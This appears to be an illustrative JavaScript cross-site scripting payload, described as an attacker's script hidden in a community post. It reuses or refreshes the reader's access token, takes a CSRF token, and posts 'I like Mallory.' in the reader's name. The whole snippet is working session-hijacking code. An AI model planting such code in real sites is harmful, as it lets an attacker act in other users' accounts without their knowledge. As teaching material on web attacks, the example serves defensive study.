// The attacker's script, run by a post in the community's page: writes in the name of whoever reads.
(async () => {
  const ask = async (method, path, headers = {}, body) => {
    const answer = await fetch(path, { method, headers, body });
    return answer.ok ? answer.json() : {};
  };
  const { csrf_token: csrf } = await ask("GET", "/csrf");
  const proven = csrf ? { "x-csrf-token": csrf } : {};
  const stored = localStorage.getItem("access");
  const token = stored ?? (await ask("POST", "/refresh", proven)).access_token;
  const bearer = token ? { authorization: `Bearer ${token}` } : {};
  const { csrf_token: newer } = await ask("GET", "/csrf");
  await ask("POST", "/posts", { ...bearer, ...(newer ? { "x-csrf-token": newer } : {}), "content-type": "text/plain" }, "I like Mallory.");
})();
